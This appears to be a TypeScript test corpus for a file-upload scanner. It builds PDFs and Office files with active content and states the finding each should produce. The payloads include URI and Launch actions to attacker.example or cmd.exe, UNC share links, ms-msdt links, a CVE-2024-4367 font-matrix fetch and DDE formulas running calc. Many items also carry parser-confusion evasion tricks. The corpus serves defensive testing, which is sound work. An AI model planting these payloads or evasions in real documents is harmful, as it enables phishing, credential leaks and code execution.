  hunted('pdf-objstm-pair-numbered-otherwise', 'PDF_UNREADABLE', packedUnderAnotherNumberPdf),
  // The catalog in place in the trailer, which pdf.js reads: its opening action calls out.
  hunted('pdf-trailer-catalog-openaction-uri', 'PDF_ACTION', () =>
    directRootPdf('/OpenAction << /S /URI /URI (http://attacker.example/track) >>'),
  ),
  // A /Root pdf.js cannot fetch as the table says: it rebuilds from all bytes, and finds a catalog hidden in an image.
  hunted('pdf-root-generation-hidden-catalog', 'PDF_UNREADABLE', () => rebuiltFromStreamDataPdf('/Root 1 1 R')),
  hunted('pdf-no-root-hidden-catalog', 'PDF_UNREADABLE', () => rebuiltFromStreamDataPdf(' '.repeat(11))),
  hunted('pdf-javascript-tree-through-kids-escaped', 'PDF_SCRIPT', () =>
    buildPdf(
      [
        ...pageObjects('/Names << /Java#53cript 6 0 R >>'),
        { num: 6, body: '<< /Kids [7 0 R] >>' },
        { num: 7, body: '<< /Names [(a) 8 0 R] /Limits [(a) (a)] >>' },
        { num: 8, body: '<< /S /J#61vaScript /J#53 (app.alert(1)) >>' },
      ],
      { packed: [1, 6, 7, 8] },
    ),
  ),
  hunted('pdf-gotoe-embedded-target', 'PDF_ACTION', () =>
    buildClassicPdf(linkAnnotations('<< /S /GoT#6FE /T << /R /C /N (a.pdf) >> >>')),
  ),
  hunted('pdf-thread-into-share', 'PDF_ACTION', () =>
    buildClassicPdf(linkAnnotations(`<< /S /Thread /F ${UNC_FILE} /D 0 >>`)),
  ),
  hunted('pdf-sound-annotation-external', 'PDF_ACTION', () =>
    buildClassicPdf([
      ...pageObjects('', '/Annots [6 0 R]'),
      { num: 6, body: `<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound << /R 8000 /F ${UNC_FILE} >> >>` },
    ]),
  ),
  hunted('pdf-richmedia-external-asset', 'PDF_SCRIPT', () =>
    buildPdf(
      [
        ...pageObjects('', '/Annots [6 0 R]'),
        {
          num: 6,
          body: `<< /Type /Annot /Subtype /Rich#4Dedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(v.swf) ${URL_SPEC}] >> >> >>`,
        },
      ],
      { packed: [6] },
    ),
  ),
  hunted('pdf-field-keystroke-aa-escaped', 'PDF_ACTION', () =>
    buildPdf(
      [
        ...pageObjects('/AcroForm << /Fields [6 0 R] >>', '/Annots [6 0 R]'),
        {
          num: 6,
          body: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /#41#41 << /K << /S /URI /URI (http://attacker.example/k) >> >> >>',
        },
      ],
      { packed: [6], packing: 'lzw' },
    ),
  ),
  // A number reused at generation 1 while the page a reader loads still refers to 6 0 R: pdf.js rebuilds the file.
  hunted('pdf-reused-number-old-generation-current', 'PDF_UNREADABLE', () =>
    updateWithGenerations(buildClassicPdf(annotatedPage()), [
      { num: 6, gen: 1, body: '<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] >>' },
    ]),
  ),
  // A URL file specification handed to a program by its scheme: ms-msdt ran the link's own script.
  hunted('pdf-gotor-url-spec-ms-msdt', 'PDF_ACTION', () =>
    buildPdf(linkAnnotations('<< /S /GoToR /F << /FS /URL /F (ms-msdt:/id PCWDiagnostic /skip force) >> >>')),
  ),
  hunted('pdf-thread-url-spec-search-ms', 'PDF_ACTION', () =>
    buildClassicPdf(
      linkAnnotations(
        '<< /S /Thread /F << /FS /URL /UF (search-ms:query=x&crumb=location:\\\\attacker.example\\s) >> /D 0 >>',
      ),
    ),
  ),
  // The catalog's /URI dictionary by reference: a relative link resolves into the share it names.
  hunted('pdf-uri-base-by-reference-share', 'PDF_ACTION', () =>
    buildPdf([
      { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /URI 9 0 R >>' },
      ...linkAnnotations('<< /S /URI /URI (annex.pdf) >>').slice(1),
      { num: 9, body: '<< /Base (file://attacker.example/share/) >>' },
    ]),
  ),
  // A portfolio's Flash navigator, run by Acrobat 9 and X to show the portfolio.
  hunted('pdf-portfolio-navigator', 'PDF_SCRIPT', () =>
    buildPdf(
      pageObjects(
        `/Collection << /View /C /Navigator << /Layout /Tile /Resources << /Names [(nav.swf) ${URL_SPEC}] >> >> >>`,
      ),
    ),
  ),
  // Readers start elsewhere than the scan did: at a last `startxref` in stream data, at a /Prev
  // written as a reference (pdf.js), after a linearized file's first object (pdf.js).
  hunted('pdf-startxref-in-stream-data', 'PDF_UNREADABLE', startxrefInStreamDataPdf),
  hunted('pdf-prev-by-reference-hidden-table', 'PDF_UNREADABLE', prevByReferencePdf),
  hunted('pdf-linearized-start-elsewhere', 'PDF_UNREADABLE', linearizedElsewherePdf),
  // A catalog whose /Pages is no dictionary: pdf.js rebuilds from all bytes and opens the catalog hidden in an image.
  hunted('pdf-pages-missing-hidden-catalog', 'PDF_UNREADABLE', () => brokenPageTreePdf('/Pages 8 0 R')),
  hunted('pdf-pages-a-stream-hidden-catalog', 'PDF_UNREADABLE', () => brokenPageTreePdf('/Pages 4 0 R')),
  // A table row pdf.js cannot read: it refuses the table and rebuilds from all bytes.
  hunted('pdf-table-row-spoiled-hidden-catalog', 'PDF_UNREADABLE', spoiledRowPdf),
  // A hybrid file's table lists the catalog free, its /XRefStm packs it: pdf.js reads the free entry and rebuilds.
  hunted('pdf-hybrid-free-catalog-hidden-catalog', 'PDF_UNREADABLE', hybridFreeCatalogPdf),
  // An opening /GoTo whose /Next is a list of actions by reference: the list's second one calls out.
  hunted('pdf-openaction-next-list-by-reference', 'PDF_ACTION', () =>
    buildPdf(
      [
        ...pageObjects('/OpenAction 6 0 R'),
        { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>' },
        { num: 7, body: '[8 0 R 9 0 R]' },
        { num: 8, body: '<< /S /GoTo /D [3 0 R /FitH 0] >>' },
        { num: 9, body: '<< /S /URI /URI (http://attacker.example/opened) >>' },
      ],
      { packed: [6, 7, 9] },
    ),
  ),
  // A key written twice: pdf.js keeps the last value, a reader that keeps the first calls out.
  hunted('pdf-openaction-type-written-twice', 'PDF_ACTION', () =>
    buildClassicPdf(pageObjects('/OpenAction << /S /URI /URI (http://attacker.example/t) /S /GoTo /D [3 0 R /Fit] >>')),
  ),
  hunted('pdf-openaction-written-twice', 'PDF_ACTION', () =>
    buildPdf(pageObjects('/OpenAction 6 0 R /OpenAction [3 0 R /Fit]').concat({ num: 6, body: URI_ACTION }), {
      packed: [1, 6],
    }),
  ),
  hunted('pdf-link-uri-written-twice-share-first', 'PDF_ACTION', () =>
    buildClassicPdf(linkAnnotations(`<< /S /URI /URI ${UNC_FILE} /URI (https://www.miit.gov.cn/) >>`)),
  ),
  // A list read first as an older catalog's opening destination, then as the newer catalog's /Next list.
  hunted('pdf-openaction-next-list-seen-as-destination', 'PDF_ACTION', () =>
    incrementalUpdate(
      buildClassicPdf([...pageObjects('/OpenAction 7 0 R'), { num: 7, body: '[8 0 R]' }, { num: 8, body: URI_ACTION }]),
      [pageObjects('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>')[0] as PdfObj],
    ),
  ),
  // The catalog's object stream redefined by an update as no object stream: pdf.js rebuilds, taking a hidden catalog.
  hunted('pdf-objstm-redefined-hidden-catalog', 'PDF_UNREADABLE', () =>
    objectStreamRedefinedPdf({ num: 7, body: '<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] >>' }),
  ),
  // Object streams decoded otherwise than pdf.js decodes them, each with an opening script pdf.js reads (round 9).
  hunted('pdf-objstm-predictor-short-last-row', 'PDF_SCRIPT', predictorShortRowPdf),
  hunted('pdf-objstm-predictor-bpc', 'PDF_UNREADABLE', predictorBpcPdf),
  hunted('pdf-objstm-filters-array-parameters-dictionary', 'PDF_UNREADABLE', predictorShapePdf),
  hunted('pdf-objstm-ascii85-control-byte', 'PDF_UNREADABLE', ascii85ControlBytePdf),
  // An output intent's profile kept in a share (PDF/X-5's /DestOutputProfileRef), by reference, packed, escaped.
  hunted('pdf-output-profile-ref-urls-share', 'PDF_ACTION', () =>
    buildPdf(
      [
        ...pageObjects('/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFX /DestOutputProfileRef 6 0 R >>]'),
        {
          num: 6,
          body: `<< /ProfileName (ISO Coated v2) /URL#73 [<< /FS /URL /F (file://attacker.example/s/p.icc) >>] >>`,
        },
      ],
      { packed: [6] },
    ),
  ),
  // A /Prev written twice, the first into a table hidden in an image's data: read by a reader that keeps the first.
  hunted('pdf-prev-written-twice-hidden-table', 'PDF_UNREADABLE', prevWrittenTwicePdf),
  // Classes already refused, one item each: a launch for Windows, a rich-media command, a movie.
  hunted('pdf-openaction-launch-win', 'PDF_SCRIPT', () =>
    buildClassicPdf(pageObjects('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>')),
  ),
  hunted('pdf-link-richmedia-execute', 'PDF_SCRIPT', () =>
    buildClassicPdf(linkAnnotations('<< /S /RichMediaExecute /TA 3 0 R /CMD << /C (play) >> >>')),
  ),
  hunted('pdf-movie-annotation-share', 'PDF_ACTION', () =>
    buildClassicPdf([
      ...pageObjects('', '/Annots [6 0 R]'),
      { num: 6, body: `<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F ${UNC_FILE} >> /A true >>` },
    ]),
  ),
  // Round 12, from the public catalogues. A presentation step's action runs as the step advances,
  // by itself after /Dur: a web /URI or a /GoToR there was only a link warning.
  hunted('pdf-presteps-next-action-web-uri', 'PDF_ACTION', () =>
    buildClassicPdf(
      pageObjects(
        '/PageMode /FullScreen',
        '/PresSteps << /Type /NavNode /NA << /S /URI /URI (http://attacker.example/step) >> /Dur 0 >>',
      ),
    ),
  ),
  hunted('pdf-presteps-previous-action-gotor-packed', 'PDF_ACTION', () =>
    buildPdf(
      [
        ...pageObjects('/PageMode /FullScreen', '/PresSteps 6 0 R'),
        { num: 6, body: '<< /NA << /S /SetOCGState /State [] >> /Next 7 0 R /Dur 1 >>' },
        { num: 7, body: '<< /PA << /S /GoToR /F (http://attacker.example/x.pdf) /D [0 /Fit] >> /Prev 6 0 R >>' },
      ],
      { packed: [3, 6, 7] },
    ),
  ),
  // A font matrix holding a string: pdf.js before 4.2.67 compiled it into glyph code (CVE-2024-4367).
  hunted('pdf-font-matrix-string', 'PDF_SCRIPT', () =>
    buildClassicPdf([
      ...pageObjects().filter((o) => o.num !== 5),
      {
        num: 5,
        body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); fetch\\("http://attacker.example/"\\))] >>',
      },
    ]),
  ),
  hunted('pdf-type3-font-matrix-by-reference-update', 'PDF_SCRIPT', () =>
    incrementalUpdate(buildClassicPdf(pageObjects()), [
      {
        num: 5,
        body: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix 6 0 R /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>',
      },
      { num: 6, body: '[0.001 0 0 0.001 0 (0\\); alert\\(1\\))]' },
    ]),
  ),
  // Round 13: a reference written `+9 0 R` or `9.0 0 R` (pdf.js takes integers by value, the standard
  // a signed integer): the opening /Next list, packed under ASCIIHex and Flate, names an action an update brings.
  hunted('pdf-openaction-next-signed-reference-update', 'PDF_ACTION', () =>
    incrementalUpdateXrefStream(
      buildPdf(
        [...pageObjects('/OpenAction 6 0 R'), { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] /Next [+9 0 R] >>' }],
        {
          packed: [1, 6],
          packing: 'ahx-flate',
        },
      ),
      [{ num: 9, body: URI_ACTION }],
    ),
  ),
  // A table row whose `n` runs into the next row: pdf.js reads the keyword `n0000000065`, refuses
  // the table and rebuilds the file, taking the catalog hidden in an image with its opening script.
  hunted('pdf-table-row-run-together-hidden-catalog', 'PDF_UNREADABLE', () => {
    const file = rebuiltFromStreamDataPdf('/Root 1 0 R').toString('latin1');
    const table = file.lastIndexOf('\nxref');
    return Buffer.from(file.slice(0, table) + file.slice(table).replace(' 00000 n \n', ' 00000 n'), 'latin1');
  }),
  // pdf.js's lexer ends a number at any byte that is not one: `0R` is 0 and the keyword R.
  hunted('pdf-openaction-next-reference-run-together', 'PDF_ACTION', () =>
    buildClassicPdf([
      ...pageObjects('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [9 0R] >>'),
      { num: 9, body: URI_ACTION },
    ]),
  ),
  hunted('pdf-font-matrix-fractional-reference', 'PDF_SCRIPT', () =>
    buildClassicPdf([
      ...pageObjects().filter((o) => o.num !== 5),
      {
        num: 5,
        body: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [0.001 0 0 0.001 0 6.0 0 R] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>',
      },
      { num: 6, body: '(0\\); alert\\(1\\))' },
    ]),
  ),
  // Round 14: PDFium reads a table's rows at a 20-byte stride: rows of 19 bytes put object 7,
  // the opening action, at an offset in an image's data, where a script hides.
  hunted('pdf-table-rows-19-bytes-pdfium-misread', 'PDF_UNREADABLE', () => misreadRowsPdf()),
  // PDFium rebuilds a file whose `startxref` is over 4 KiB before the end, and then reads an
  // image's data as objects: after an `endobj` in it (its /Length indirect), or after a dictionary
  // value it cannot read; a catalog hidden there launches a program.
  hunted('pdf-pdfium-rebuild-endobj-in-image', 'PDF_UNREADABLE', () => pdfiumRebuildPdf('endobj')),
  hunted('pdf-pdfium-rebuild-stray-keyword-in-image', 'PDF_UNREADABLE', () => pdfiumRebuildPdf('stray')),
  hunted('pdf-pdfium-rebuild-exponent-length-image', 'PDF_UNREADABLE', () => pdfiumRebuildPdf('exponent')),
  // A tab after an object stream's `stream`: MuPDF reads its data from a byte earlier, object 6 as `9 0 R`.
  hunted('pdf-object-stream-tab-after-keyword', 'PDF_UNREADABLE', () => objectStreamAfterTabPdf('\t')),
  // Round 17: encrypted files the empty user password opens are decrypted and read. A link into a
  // share in an encrypted string (RC4, AES-128, AES-256), as its unencrypted twin.
  hunted('pdf-encrypted-rc4-uri-share-string', 'PDF_ACTION', () => encryptedPdf(SHARE_LINK, { cipher: 'rc4-128' })),
  hunted('pdf-encrypted-aes-uri-share-string', 'PDF_ACTION', () => encryptedPdf(SHARE_LINK, { cipher: 'aes-128' })),
  hunted('pdf-encrypted-aes256-uri-share-string', 'PDF_ACTION', () => encryptedPdf(SHARE_LINK, { cipher: 'aes-256' })),
  // /Launch's /F string encrypted: /Launch is a name, never encrypted.
  hunted('pdf-encrypted-launch-file-string', 'PDF_SCRIPT', () =>
    encryptedPdf([...pageObjects('/OpenAction 6 0 R'), { num: 6, body: '<< /S /Launch /F (cmd.exe) >>' }], {
      cipher: 'aes-128',
    }),
  ),
  // The trailer that adds /Encrypt is an update's: a reader decrypts the original object stream
  // (which held the script encrypted, read as noise without the key) with the key it gives.
  hunted('pdf-encrypted-by-update-script', 'PDF_SCRIPT', () => encryptionAddedByUpdatePdf(OPENING_SCRIPT, [1, 6])),
  // A wrong /U: the empty password does not open the file (a reader asks for one).
  hunted('pdf-encrypted-wrong-u', 'PDF_ENCRYPTED', () =>
    encryptedPdf(OPENING_SCRIPT, { cipher: 'aes-128', packed: [1, 6], wrongU: true }),
  ),
  // No /ID: the key, made with one, is not the one readers make without (the empty string).
  hunted('pdf-encrypted-id-missing', 'PDF_ENCRYPTED', () =>
    encryptedPdf(OPENING_SCRIPT, { cipher: 'rc4-128', packed: [1, 6], id: false }),
  ),
  // /StmF names a crypt filter /CF does not define: the object stream cannot be decrypted.
  hunted('pdf-encrypted-crypt-filter-absent', 'PDF_UNREADABLE', () =>
    encryptedPdf(OPENING_SCRIPT, { cipher: 'aes-128', packed: [1, 6], stmF: 'Missing' }),
  ),
  // /StmF and /StrF differ: streams in clear (/Identity) with strings encrypted, and the reverse.
  hunted('pdf-encrypted-identity-streams-script', 'PDF_SCRIPT', () =>
    encryptedPdf(OPENING_SCRIPT, { cipher: 'aes-128', packed: [1, 6], stmF: 'Identity' }),
  ),
  hunted('pdf-encrypted-identity-strings-share', 'PDF_ACTION', () =>
    encryptedPdf(SHARE_LINK, { cipher: 'aes-256', strF: 'Identity' }),
  ),
  // An AES string whose padding is wrong decrypts to nothing a reader agrees on.
  hunted('pdf-encrypted-string-bad-padding', 'PDF_UNREADABLE', () =>
    encryptedPdf(SHARE_LINK, { cipher: 'aes-128', badPadding: true }),
  ),
  // An object stream left in clear where streams are encrypted: a reader decrypts it into other bytes.
  hunted('pdf-encrypted-object-stream-in-clear', 'PDF_UNREADABLE', () =>
    encryptedPdf(pageObjects(), { cipher: 'aes-128', packed: [1, 2], clear: [91] }),
  ),
  // The encryption dictionary packed in an object stream, which itself would need its key.
  hunted('pdf-encrypted-dictionary-in-object-stream', 'PDF_ENCRYPTED', () =>
    encryptedPdf(OPENING_SCRIPT, { cipher: 'rc4-128', packed: [1, 6, 90] }),
  ),
  // Round 18: strings the encryption dictionary and a cross-reference stream's dictionary hold
  // are never encrypted, and readers read them as written; the scan decrypted them into noise. A
  // catalog's /URI /Base into a share, kept in either, led relative links there.
  hunted('pdf-encrypted-base-in-encryption-dictionary', 'PDF_ACTION', () =>
    baseInEncryptionDictionaryPdf('file://attacker.example/share/'),
  ),
  hunted('pdf-encrypted-base-in-xref-stream-catalog', 'PDF_ACTION', () =>
    baseInCrossReferenceStreamPdf('\\\\\\\\attacker.example\\\\share\\\\', 'aes-256'),
  ),
  // An object stream under a /Crypt /Identity filter of its own: MuPDF (and the scan) read two
  // empty arrays, qpdf and pdf.js decrypt it with /StmF into a link that runs a script.
  hunted('pdf-encrypted-object-stream-own-crypt-filter', 'PDF_UNREADABLE', () => ownCryptFilterObjectStreamPdf({})),
  hunted('pdf-encrypted-object-stream-own-crypt-filter-no-parms', 'PDF_UNREADABLE', () =>
    ownCryptFilterObjectStreamPdf({ parms: false }),
  ),
  // A 40-bit RC4 key that only /StrF's filter gives (/StmF /Identity): pdf.js and MuPDF take 128
  // bits and ask for a password; the scan opened it with the string filter's 40.
  hunted('pdf-encrypted-key-length-from-string-filter', 'PDF_ENCRYPTED', () =>
    encryptedPdf(SHARE_LINK, { cipher: 'rc4-v4-40', stmF: 'Identity' }),
  ),
  // An associated file (/AF, PDF 2.0) not embedded: a file in a share, which a reader lists with
  // the attachments and opens there at a click, as a /GoToR's (in place, by reference to an
  // array, and in an encrypted string).
  hunted('pdf-associated-file-share', 'PDF_ACTION', () =>
    buildPdf(pageObjects(`/AF [<< /Type /Filespec /F ${UNC_FILE} /AFRelationship /Source >>]`)),
  ),
  hunted('pdf-associated-file-array-by-reference-share', 'PDF_ACTION', () =>
    buildPdf([
      ...pageObjects('/AF 8 0 R'),
      { num: 8, body: '[9 0 R]' },
      { num: 9, body: `<< /Type /Filespec /UF ${UNC_FILE} /AFRelationship /Data >>` },
    ]),
  ),
  hunted('pdf-encrypted-associated-file-share', 'PDF_ACTION', () =>
    encryptedPdf(pageObjects('', `/AF [<< /Type /Filespec /F ${UNC_FILE} >>]`), { cipher: 'aes-128' }),
  ),
];

/** PDFs whose structure cannot be read whole. */
const unreadablePdfs: CorpusItem[] = [
  {
    id: 'pdf-objstm-image-filter',
    category: 'PDF unreadable',
    declared: 'pdf',
    // An object stream under a filter that cannot hold objects: what it holds cannot be read.
    bytes: async () =>
      buildClassicPdf([
        ...pageObjects(),
        {
          num: 6,
          body: '/Type /ObjStm /N 1 /First 4 /Filter /DCTDecode',
          stream: Buffer.from('7 0 << /S /JavaScript >>'),
        },
      ]),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-objstm-bomb',
    category: 'PDF unreadable',
    declared: 'pdf',
    bytes: async () =>
      buildClassicPdf([
        ...pageObjects(),
        {
          num: 6,
          body: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          stream: deflateSync(Buffer.alloc(100 * MiB)),
        },
      ]),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-object-hidden-in-stream-data',
    category: 'PDF unreadable',
    declared: 'pdf',
    // A fake image whose data holds an object the cross-reference table points into.
    bytes: async () => {
      const hidden = '6 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n';
      const file = buildClassicPdf([
        ...pageObjects('/OpenAction 6 0 R'),
        { num: 7, body: '/Type /XObject /Subtype /Image /Filter /DCTDecode', stream: Buffer.from(`AAAA${hidden}`) },
      ]);
      const at = file.indexOf(hidden);
      const table = file.lastIndexOf('\nxref') + 1;
      const text = file
        .toString('latin1', table)
        .replace(/(\n0 8\n(?:.*\n){6})0000000000 00000 f /, `$1${String(at).padStart(10, '0')} 00000 n `);
      return Buffer.concat([file.subarray(0, table), Buffer.from(text, 'latin1')]);
    },
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-xref-points-elsewhere',
    category: 'PDF unreadable',
    declared: 'pdf',
    bytes: async () => {
      const file = buildClassicPdf(pageObjects());
      const text = file
        .toString('latin1')
        .replace(/\n(\d{10}) 00000 n \n/, (_, o: string) => `\n${String(Number(o) + 7).padStart(10, '0')} 00000 n \n`);
      return Buffer.from(text, 'latin1');
    },
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-wrong-stream-length',
    category: 'PDF unreadable',
    declared: 'pdf',
    bytes: async () =>
      Buffer.from(
        buildClassicPdf(pageObjects())
          .toString('latin1')
          .replace(/\/Length (\d+)/, (_, n: string) => `/Length ${Number(n) - 3}`),
        'latin1',
      ),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-no-xref',
    category: 'PDF unreadable',
    declared: 'pdf',
    bytes: async () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n', 'latin1'),
    expect: 'PDF_UNREADABLE',
  },
  ...readerPdfs,
  ...linkPdfs,
  ...huntedPdfs,
];

// ── OOXML ────────────────────────────────────────────────────────────────────────────────

const KINDS: OfficeKind[] = ['docx', 'xlsx', 'pptx'];
/** A PPTX is declared as a DOCX: refused as not one, and its active content named too. */
const declaredAs = (kind: OfficeKind): FileType => (kind === 'pptx' ? 'docx' : kind);

const perKind = (
  id: string,
  category: string,
  make: (kind: OfficeKind) => Promise<Buffer>,
  expect: FindingCode,
): CorpusItem[] =>
  KINDS.map((kind) => ({ id: `${kind}-${id}`, category, declared: declaredAs(kind), bytes: () => make(kind), expect }));

const officeItems: CorpusItem[] = [
  {
    id: 'docx-remote-template-http',
    category: 'OOXML external',
    declared: 'docx',
    bytes: () => externalTemplate('http://attacker.example/t.dotm'),
    expect: 'OOXML_EXTERNAL',
  },
  {
    id: 'docx-remote-template-unc',
    category: 'OOXML external',
    declared: 'docx',
    bytes: () => externalTemplate('\\\\attacker.example\\share\\t.dotm'),
    expect: 'OOXML_EXTERNAL',
  },
  ...perKind('external-ole-follina', 'OOXML external', externalOle, 'OOXML_EXTERNAL'),
  ...perKind('linked-picture-unc', 'OOXML external', linkedPicture, 'OOXML_EXTERNAL'),
  ...perKind('embedded-ole', 'OOXML embedded object', embeddedOle, 'OOXML_EMBEDDED_OBJECT'),
  ...perKind('embedded-package', 'OOXML embedded object', embeddedPackage, 'OOXML_EMBEDDED_OBJECT'),
  ...perKind('activex', 'OOXML embedded object', activeX, 'OOXML_EMBEDDED_OBJECT'),
  ...perKind('activex-by-content-type', 'OOXML embedded object', activeXByContentType, 'OOXML_EMBEDDED_OBJECT'),
  ...perKind('vba-by-content-type', 'macros', (k) => macroByContentType(k), 'MACROS'),
  ...perKind('vba-by-relationship', 'macros', macroByRelationship, 'MACROS'),
  ...perKind('vba-content-type-past-1mib', 'macros', (k) => macroByContentType(k, 1536 * 1024), 'MACROS'),
  ...perKind('content-types-oversized', 'OOXML unreadable', (k) => macroByContentType(k, 5 * MiB), 'OOXML_UNREADABLE'),
  { id: 'docx-word-vba-data', category: 'macros', declared: 'docx', bytes: wordVbaData, expect: 'MACROS' },
  {
    id: 'docx-rels-utf16-template',
    category: 'OOXML external',
    declared: 'docx',
    bytes: utf16Relationships,
    expect: 'OOXML_EXTERNAL',
  },
  {
    id: 'docx-escaped-target-mode',
    category: 'OOXML external',
    declared: 'docx',
    bytes: escapedTargetMode,
    expect: 'OOXML_EXTERNAL',
  },
  {
    id: 'xlsx-external-workbook-link',
    category: 'OOXML external',
    declared: 'xlsx',
    bytes: () => externalWorkbookLink(false),
    expect: 'OOXML_EXTERNAL',
  },
  {
    id: 'xlsx-dde-link',
    category: 'OOXML external',
    declared: 'xlsx',
    bytes: () => externalWorkbookLink(true),
    expect: 'OOXML_EXTERNAL',
  },
  {
    id: 'xlsx-data-connection',
    category: 'OOXML external',
    declared: 'xlsx',
    bytes: dataConnection,
    expect: 'OOXML_EXTERNAL',
  },
  {
    id: 'xlsx-dde-formula',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => sheetWithFormula("cmd|' /c calc'!A0"),
    expect: 'OOXML_DDE',
  },
  {
    id: 'xlsx-dde-formula-escaped-pipe',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => sheetWithFormula("cmd&#124;' /c calc'!A0"),
    expect: 'OOXML_DDE',
  },
  {
    id: 'xlsx-dde-formula-after-string',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => sheetWithFormula("&quot;a|b&quot;&amp;msexcel|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0"),
    expect: 'OOXML_DDE',
  },
  {
    id: 'xlsx-dde-defined-name',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => definedNameFormula("cmd|'/c calc'!A0"),
    expect: 'OOXML_DDE',
  },
  {
    id: 'docx-ddeauto-fldsimple',
    category: 'DDE',
    declared: 'docx',
    bytes: () =>
      documentWith('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; "/>'),
    expect: 'OOXML_DDE',
  },
  {
    id: 'docx-ddeauto-instrtext',
    category: 'DDE',
    declared: 'docx',
    bytes: () => documentWith(complexField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
    expect: 'OOXML_DDE',
  },
  {
    id: 'docx-dde-split-runs',
    category: 'DDE',
    declared: 'docx',
    bytes: () => documentWith(complexField(' DD', 'E', 'AUTO c:\\\\x.exe "a" ')),
    expect: 'OOXML_DDE',
  },
  {
    id: 'docx-dde-lowercase-entity',
    category: 'DDE',
    declared: 'docx',
    bytes: () => documentWith(complexField(' &#100;deauto c:\\\\x.exe "a" ')),
    expect: 'OOXML_DDE',
  },
  {
    id: 'docx-dde-second-field',
    category: 'DDE',
    declared: 'docx',
    bytes: () => documentWith(complexField(' IF 1 = 1 ') + complexField('DDE cmd "/c calc" ')),
    expect: 'OOXML_DDE',
  },
  // Text that an XML reader (and Office) resolves before reading: CDATA, comments, references.
  {
    id: 'xlsx-dde-formula-cdata',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => sheetWithFormula("<![CDATA[cmd|' /c calc'!A0]]>"),
    expect: 'OOXML_DDE',
  },
  {
    id: 'xlsx-dde-formula-cdata-pipe-only',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => sheetWithFormula("cmd<![CDATA[|]]>' /c calc'!A0"),
    expect: 'OOXML_DDE',
  },
  {
    id: 'xlsx-dde-formula-comment',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => sheetWithFormula("cmd<!-- a note -->|' /c calc'!A0"),
    expect: 'OOXML_DDE',
  },
  {
    id: 'xlsx-dde-formula-hex-pipe',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => sheetWithFormula("cmd&#x0007C;' /c calc'!A0"),
    expect: 'OOXML_DDE',
  },
  {
    id: 'xlsx-dde-formula-quote-reference',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => sheetWithFormula("&#x22;a&#34;&amp;cmd|' /c calc'!A0"),
    expect: 'OOXML_DDE',
  },
  {
    id: 'xlsx-dde-formula-after-640k-whitespace',
    category: 'DDE',
    declared: 'xlsx',
    bytes: () => sheetWithFormula(`${whitespace(640 * 1024)}cmd|' /c calc'!A0`),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'docx-ddeauto-instrtext-cdata',
    category: 'DDE',
    declared: 'docx',
    bytes: () => documentWith(complexField('<![CDATA[ DDEAUTO c:\\x.exe "a" ]]>')),
    expect: 'OOXML_DDE',
  },
  {
    id: 'docx-dde-decimal-reference',
    category: 'DDE',
    declared: 'docx',
    bytes: () => documentWith(complexField(' &#68;DE cmd "/c calc" ')),
    expect: 'OOXML_DDE',
  },
  {
    id: 'docx-ddeauto-hex-reference',
    category: 'DDE',
    declared: 'docx',
    bytes: () => documentWith(complexField(' &#x44;DEAUTO c:\\x.exe "a" ')),
    expect: 'OOXML_DDE',
  },
  {
    id: 'docx-ddeauto-after-640k-whitespace',
    category: 'DDE',
    declared: 'docx',
    bytes: () => documentWith(complexField(`${whitespace(640 * 1024)}DDEAUTO c:\\x.exe "a" `)),
    expect: 'OOXML_UNREADABLE',
  },
  // A DTD's entities stand for any text: refused, never expanded (OPC M1.18).
  {
    id: 'xlsx-dde-formula-dtd-entity',
    category: 'DTD',
    declared: 'xlsx',
    bytes: dtdEntityFormula,
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'docx-ddeauto-dtd-entity',
    category: 'DTD',
    declared: 'docx',
    bytes: dtdEntityField,
    expect: 'OOXML_UNREADABLE',
  },
  ...perKind('external-target-mode-dtd-entity', 'DTD', dtdEntityTargetMode, 'OOXML_UNREADABLE'),
  ...perKind('content-types-entity-expansion', 'DTD', dtdLaughsContentTypes, 'OOXML_UNREADABLE'),
  {
    id: 'xlsx-dtd-after-long-prolog-comment',
    category: 'DTD',
    declared: 'xlsx',
    bytes: dtdAfterLongComment,
